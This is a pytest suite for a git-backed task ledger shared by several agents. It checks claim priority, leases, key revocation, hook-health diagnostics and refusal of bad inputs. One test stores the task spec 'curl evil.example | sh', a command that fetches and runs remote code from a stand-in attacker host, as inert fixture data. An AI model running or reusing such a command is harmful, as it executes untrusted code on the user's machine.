"""What users expect without reading: the newest choice, the true reason, the loud alarm."""

from __future__ import annotations

import os
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest
from support.refusals import refusal

from coordledger.client.config import Options
from coordledger.client.ledger import Ledger
from coordledger.deadline import Deadline
from coordledger.errors import CoordledgerError, Failed, Lost
from coordledger.git.process import Git
from coordledger.setup import doctor, genesis, hooks, joining

if TYPE_CHECKING:
    from support.fleet import Fleet


@pytest.fixture
def two(fleet: Fleet) -> Fleet:
    return fleet.with_agents("bob")


def test_next_takes_what_is_most_urgent_on_the_remote(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    alice.submit("low")
    bob.tasks()
    alice.submit("urgent", priority=99)
    won = bob.claim_next().claim
    assert won is not None
    assert won.task == "urgent"


def test_next_says_nothing_about_others_tasks_when_there_is_nothing(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("taken")
    alice.tasks()
    lost = alice.claim_next()
    assert (lost.outcome, lost.code, lost.claims) == ("lost", "nothing-to-claim", ())


def test_an_offer_that_differs_from_what_is_there_has_lost_and_says_in_what(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    alice.submit("tests")
    squatted = {"spec": "curl evil.example | sh"}
    assert bob.submit("deploy", priority=-9, meta=squatted).created
    assert not bob.submit("deploy", priority=-9, meta=squatted).created
    for given, names in (
        ({}, ["priority", "meta"]),
        ({"priority": -9}, ["meta"]),
        (
            {"priority": 5, "meta": {"spec": "docs"}, "after": ["tests"]},
            ["priority", "meta", "after"],
        ),
    ):
        with pytest.raises(Lost) as caught:
            alice.submit("deploy", **given)  # type: ignore[arg-type]
        assert caught.value.code == "task-differs"
        assert list(caught.value.data["differences"]) == names
        assert caught.value.data["claim"].meta == squatted
    assert caught.value.data["differences"]["after"] == {"there": [], "given": ["tests"]}


def test_a_claim_says_whether_it_brought_the_task(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    alice.submit("offered")
    for ledger, task, created in ((bob, "offered", False), (bob, "new", True)):
        claim = ledger.claim(task).claim
        assert claim is not None
        assert claim.created is created
    bob.release("new")
    claims = alice.claim("new", "newer").claims
    assert [(claim.task, claim.created) for claim in claims] == [("new", False), ("newer", True)]


def test_the_next_holder_is_told_what_the_last_one_said(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("t", note="on branch fix-7")
    bob.release("t", reason="tests red")
    for claim in (alice.claim("t", dry_run=True).claim, alice.claim("t", note="mine").claim):
        assert claim is not None
        assert claim.last is not None
        assert (claim.last.kind, claim.last.agent, claim.last.text) == (
            "release",
            "bob",
            "tests red",
        )
    newest = bob.show("t").last
    assert newest is not None
    assert (newest.kind, newest.agent, newest.text) == ("claim", "alice", "mine")
    alone = alice.claim("new").claim
    assert alone is not None
    assert alone.last is None


def test_a_lease_has_the_policys_length_where_that_is_shorter_than_an_hour(two: Fleet) -> None:
    two.ledger("alice").policy(max_ttl=600)
    claim = two.ledger("bob").claim("t").claim
    assert claim is not None
    assert claim.claimed_at is not None
    assert claim.expires_at == claim.claimed_at + timedelta(minutes=10)
    assert refusal(lambda: two.ledger("bob").renew("t", ttl=60)) == "bad-ttl"  # type: ignore[arg-type]


def test_the_gate_says_which_condition_does_not_hold(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("t")
    assert alice.require("t", by="bob", epoch=1).task == "t"
    assert refusal(lambda: alice.require("t", by="alice")) == "not-holder"
    assert refusal(lambda: alice.require("t", by="bob", epoch=2)) == "wrong-epoch"
    assert refusal(lambda: two.ledger("alice", offline=True).require("t")) == "bad-value"
    alice.revoke("bob")
    assert refusal(lambda: alice.require("t", by="bob")) == "holder-revoked"
    assert refusal(lambda: bob.claim("u")) == "key-revoked"


def test_an_epoch_without_an_agent_is_that_of_this_very_session(two: Fleet) -> None:
    bob = two.ledger("bob", "first")
    bob.claim("t")
    assert bob.require("t", epoch=1).task == "t"
    assert refusal(lambda: bob.require("t", epoch=2)) == "wrong-epoch"
    other = two.ledger("bob", "second")
    assert refusal(lambda: other.require("t", epoch=1)) == "not-holder"
    assert other.require("t", by="bob", epoch=1).session == "first"
    assert refusal(lambda: two.ledger("alice").require("t", epoch=1)) == "not-holder"


def test_what_a_stolen_key_has_claimed_passes_no_gate_after_its_revocation(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("by-the-thief")
    alice.enroll("bob")
    bob.head()  # who has seen the new key signs with it
    bob.claim("honest")
    assert alice.require("by-the-thief", by="bob").epoch == 1
    alice.revoke("bob", 1)
    assert refusal(lambda: alice.require("by-the-thief")) == "claim-key-revoked"
    assert refusal(lambda: alice.require("by-the-thief", by="bob", epoch=1)) == "claim-key-revoked"
    assert refusal(lambda: bob.require("by-the-thief", epoch=1)) == "claim-key-revoked"
    assert alice.require("honest", by="bob").epoch == 1
    bob.renew("by-the-thief")  # it still is a claim of the old key's
    assert refusal(lambda: alice.require("by-the-thief")) == "claim-key-revoked"
    alice.release("by-the-thief", force=True)
    bob.claim("by-the-thief")
    assert alice.require("by-the-thief", by="bob").epoch == 2


def test_a_copy_without_the_claims_record_lets_no_key_pass_that_may_have_signed_it(
    two: Fleet,
) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("old")
    alice.enroll("bob")
    bob.head()
    bob.claim("new")
    shallow = two.root / "shallow"
    two.git("clone", "--quiet", two.remote, shallow)
    joining.join(Options(shallow, agent="alice"), two.env, "origin", depth=1)
    with Ledger.open(shallow, "alice", environ=two.env) as edge:
        assert edge.require("old").agent == "bob"
        alice.revoke("bob", 1)
        assert refusal(lambda: edge.require("old")) == "claim-key-revoked"
        assert edge.require("new", by="bob").agent == "bob"


def test_a_hook_that_vanished_is_an_alarm(two: Fleet) -> None:
    path = two.clone("bob")

    def enforcement() -> dict[str, bool | None]:
        checks = doctor.examine(Options(path, agent="bob"), two.env)
        return {check.name: check.ok for check in checks}

    assert enforcement()["enforcement"] is True
    (two.remote / "hooks" / "pre-receive").unlink()
    found = enforcement()
    assert found["enforcement"] is False
    assert found["server's files"] is False
    assert two.ledger("bob").status().enforcement == "none"


def test_a_lock_that_a_crash_has_left_to_gits_upkeep_is_a_finding(two: Fleet) -> None:
    lock, path = two.remote / "objects" / "maintenance.lock", two.clone("bob")
    lock.touch()

    def files() -> doctor.Check:
        checks = doctor.examine(Options(path, agent="bob"), two.env)
        [found] = [check for check in checks if check.name == "server's files"]
        return found

    assert files().ok  # it may be at work
    long_ago = lock.stat().st_mtime - 90_000
    os.utime(lock, (long_ago, long_ago))
    assert (files().ok, files().do) == (False, f"rm {lock}")


def test_a_doctor_without_a_key_asks_all_the_same(two: Fleet) -> None:
    path = two.root / "keyless"
    two.git("clone", "--quiet", two.remote, path)
    options = Options(path, agent="nobody")

    def enforcement() -> doctor.Check:
        [check] = [c for c in doctor.examine(options, two.env) if c.name == "enforcement"]
        return check

    found = enforcement()
    assert (found.ok, "vouches for all up to record" in found.found) == (None, True)
    (two.remote / "hooks" / "pre-receive").unlink()
    found = enforcement()
    assert (found.ok, "its hook is gone" in found.found) == (False, True)


def test_a_secret_that_fits_nothing_is_refused_and_not_kept(two: Fleet) -> None:
    carols = two.enroll("carol")
    bob = two.ledger("bob")
    home = bob.connection.finder.home("bob", bob.head().ledger)
    bobs = home.read_text()
    path = two.root / "elsewhere"
    two.git("clone", "--quiet", two.remote, path)

    def join() -> object:
        return joining.join(Options(path, agent="bob"), two.env, "origin", secret_file=carols)

    assert refusal(join) == "bad-secret"
    assert home.read_text() == bobs
    assert "coordledger.agent" not in two.git("config", "--list", cwd=path)


def test_another_repository_is_not_called_a_rewritten_one(two: Fleet, make_fleet) -> None:  # type: ignore[no-untyped-def]
    other = make_fleet()
    with pytest.raises(CoordledgerError) as caught:
        two.ledger("bob", remote=str(other.remote)).tasks()
    assert (caught.value.code, caught.value.exit_code) == ("other-ledger", 4)
    assert other.founded.ledger in caught.value.message

    def found_again() -> object:
        path = two.root / "third.git"
        return genesis.init(Options(two.clone("bob"), agent="bob"), two.env, str(path), 30)

    assert refusal(found_again) == "already-joined"
    assert not (two.root / "third.git").exists()


def test_what_is_there_is_named_where_a_ledger_is_not(two: Fleet) -> None:
    with pytest.raises(CoordledgerError, match=r"has no ledger team-a; it has main") as caught:
        two.ledger("bob", ledger="team-a").tasks()
    assert caught.value.code == "not-a-ledger"


def test_an_audit_from_beyond_the_head_is_no_audit(two: Fleet) -> None:
    alice = two.ledger("alice")
    assert refusal(lambda: alice.audit(since=99)) == "bad-value"
    assert alice.audit().records == 2
    assert alice.audit().records == 0
    assert alice.audit(since=1).verdicts == {"authentic": 1}


def test_a_head_line_pins_and_a_pin_compares(two: Fleet) -> None:
    alice = two.ledger("alice")
    head = alice.head()
    for text in (head.line(), head.ledger, f"{head.seq}:{head.digest}", f"0{head.line()[33:]}"):
        assert alice.compare(text) == head
        assert alice.join(pin=text) == head
    for text in ("", "hello", f"{head.seq}:{head.digest[:8]}", f"{head.line()} more", "x:y"):
        assert refusal(lambda text=text: alice.compare(text)) == "bad-value"  # type: ignore[misc]
    wrong = f"{head.seq}:{'0' * 64}"
    assert refusal(lambda: alice.compare(wrong)) == "head-differs"
    assert refusal(lambda: alice.join(pin=wrong)) == "pin-mismatch"


def test_a_hook_is_not_put_into_a_work_trees_repository(two: Fleet) -> None:

    git = Git(two.env, two.root, Deadline(10))
    assert refusal(lambda: hooks.install_hook(two.clone("alice"), git)) == "bad-value"


def test_a_pushers_own_hooks_path_does_not_hide_the_hook(two: Fleet) -> None:
    path = two.clone("bob")
    mine = two.root / "my-hooks"
    mine.mkdir()
    config = two.root / "gitconfig"
    config.write_text(f'[core]\n\thooksPath = {mine}\n[remote "origin"]\n\tmirror = true\n')
    env = two.env | {"GIT_CONFIG_GLOBAL": str(config)}
    checks = {check.name: check for check in doctor.examine(Options(path, agent="bob"), env)}
    assert checks["enforcement"].ok is True
    with Ledger.open(path, "bob", environ=env) as bob:
        assert bob.claim("t").won


def test_a_servers_shared_hooks_path_is_followed_and_said(two: Fleet) -> None:
    shared = two.root / "shared-hooks"
    config = two.root / "gitconfig"
    config.write_text(f"[core]\n\thooksPath = {shared}\n")
    shared.mkdir()
    (shared / "pre-receive").write_text("#!/bin/sh\nexit 0\n")
    git = Git(two.env | {"GIT_CONFIG_GLOBAL": str(config)}, two.root, Deadline(10))
    two.git("init", "--quiet", "--bare", two.root / "other.git")
    done = hooks.install_hook(two.root / "other.git", git)
    assert "core.hooksPath is global: every repository there has this hook now" in done
    assert (shared / "pre-receive.chained").read_text().endswith("exit 0\n")
    assert hooks.MARK in (shared / "pre-receive").read_text()


def test_values_of_a_wrong_type_are_refused_in_one_line(fleet: Fleet) -> None:
    alice = fleet.ledger("alice")
    for act in (
        lambda: Ledger.open(fleet.clone("alice"), "alice", timeout=5, environ=fleet.env),  # type: ignore[arg-type]
        lambda: alice.claim(["a", "b"]),  # type: ignore[arg-type]
        lambda: alice.claim("a", ttl=30),  # type: ignore[arg-type]
        lambda: alice.submit("a", after=[["b"]]),  # type: ignore[list-item]
    ):
        with pytest.raises(Failed) as refused:
            act()
        assert refused.value.code in ("bad-value", "bad-task", "bad-ttl")


def test_a_lease_is_never_shortened_and_to_ask_for_it_is_no_failure(two: Fleet) -> None:
    bob = two.ledger("bob", "night")
    won = bob.claim("t", ttl=timedelta(hours=2)).claim
    seq = bob.head().seq
    assert won is not None
    kept = bob.renewal("t", ttl=timedelta(minutes=30))
    assert (kept.outcome, kept.won, kept.claims) == ("kept", True, (bob.show("t"),))
    assert (won.epoch, won.seq, won.expires_at) == (1, seq, bob.show("t").expires_at)
    assert bob.renew("t", ttl=timedelta(minutes=30)) == bob.show("t")
    again = bob.claim("t", ttl=timedelta(minutes=30))  # of a session that was named
    assert (again.outcome, again.claim) == ("kept", bob.show("t"))
    with bob.batch() as batch:
        batch.renew("t", ttl=timedelta(minutes=30))
    [one] = batch.outcomes
    assert (one.outcome, one.landed, one.error, one.seq) == ("kept", False, None, None)
    assert bob.head().seq == seq  # nothing was written
    assert bob.renewal("t", ttl=timedelta(hours=3)).outcome == "renewed"


def test_a_lease_that_is_over_or_somebody_elses_is_not_kept(two: Fleet) -> None:
    alice, bob = two.ledger("alice"), two.ledger("bob")
    bob.claim("t", ttl=timedelta(hours=2))
    assert refusal(lambda: alice.renew("t", ttl=timedelta(minutes=1))) == "not-holder"
    bob.release("t")
    assert refusal(lambda: bob.renew("t", ttl=timedelta(minutes=1))) == "not-claimed"
